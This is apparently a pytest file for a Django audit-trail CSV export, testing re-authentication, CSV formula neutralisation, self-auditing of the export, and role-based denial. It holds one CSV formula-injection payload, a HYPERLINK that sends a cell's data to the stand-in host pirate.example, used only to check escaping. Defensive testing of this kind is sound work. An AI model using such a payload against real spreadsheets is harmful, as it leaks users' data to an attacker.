"""The director exports the trail as CSV through the exports register: re-authentication,
formula cells neutralised, the export itself audited."""

import csv
import hashlib
import io

import pytest
from django.urls import reverse

from maillage.audit import record
from maillage.audit.models import AuditEvent

URL = reverse("audit:export")
FORMULA = '=HYPERLINK("https://pirate.example/?vol="&A1;"Cliquez ici")'


def _csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def hostile_event(network, coordinator):
    return record(
        FORMULA,
        actor=coordinator,
        network=network,
        details={"motif": FORMULA},
    )


def test_the_director_exports_the_filtered_trail_as_csv(client_for, director, network, coordinator):
    record("patients.patient.viewed", actor=coordinator, network=network)
    record("careplans.pps.validated", actor=coordinator, network=network)
    response = client_for(director).get(URL, {"action": "patients."})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="journal-audit-')
    rows = _csv(response)
    assert rows[0][:3] == ["Date", "Utilisateur", "Action"]
    assert [row[2] for row in rows[1:]] == ["patients.patient.viewed"]
    assert rows[1][1] == coordinator.email


def test_formula_cells_are_neutralised(client_for, director, hostile_event):
    rows = _csv(client_for(director).get(URL))
    hostile = next(row for row in rows if FORMULA in row[2])
    assert hostile[2] == "'" + FORMULA
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
    )


def test_the_export_is_audited_with_its_fingerprint(client_for, director, network, coordinator):
    record("patients.patient.viewed", actor=coordinator, network=network)
    response = client_for(director).get(URL, {"action": "patients."})
    event = AuditEvent.objects.get(action="audit.trail.exported")
    assert event.network_uuid == network.public_id
    assert event.details["format"] == "csv"
    assert event.details["rows"] == 1
    assert event.details["filters"] == {"action": "patients."}
    assert event.details["sha256"] == hashlib.sha256(response.content).hexdigest()


def test_the_export_needs_a_recent_reauthentication(client_for, director):
    response = client_for(director, reauth=False).get(URL)
    assert response["Location"].startswith(reverse("accounts:reauth"))
    assert not AuditEvent.objects.filter(action="audit.trail.exported").exists()


def test_invalid_filters_export_nothing(client_for, director):
    response = client_for(director).get(URL, {"patient": "pas-un-uuid"})
    assert response["Location"].startswith(reverse("audit:search"))
    assert not AuditEvent.objects.filter(action="audit.trail.exported").exists()


@pytest.mark.parametrize(
    "persona",
    ["coordinator", "network_admin", "coordinator_other_network", "superuser_without_membership"],
)
def test_other_roles_get_404(request, client_for, persona):
    assert client_for(request.getfixturevalue(persona)).get(URL).status_code == 404
